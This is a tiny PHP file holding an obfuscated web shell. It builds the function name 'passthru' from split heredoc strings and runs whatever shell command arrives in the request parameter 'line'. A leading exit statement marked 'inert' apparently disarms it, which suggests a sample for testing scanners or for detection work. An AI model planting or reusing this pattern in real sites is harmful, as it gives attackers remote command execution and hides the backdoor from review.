<?php exit; /* inert */ 
$a = <<<A
pass
A;
$b = <<<'B'
thru
B;
$go = <<<G
{$a}{$b}
G;
$go("{$_REQUEST['line']}");
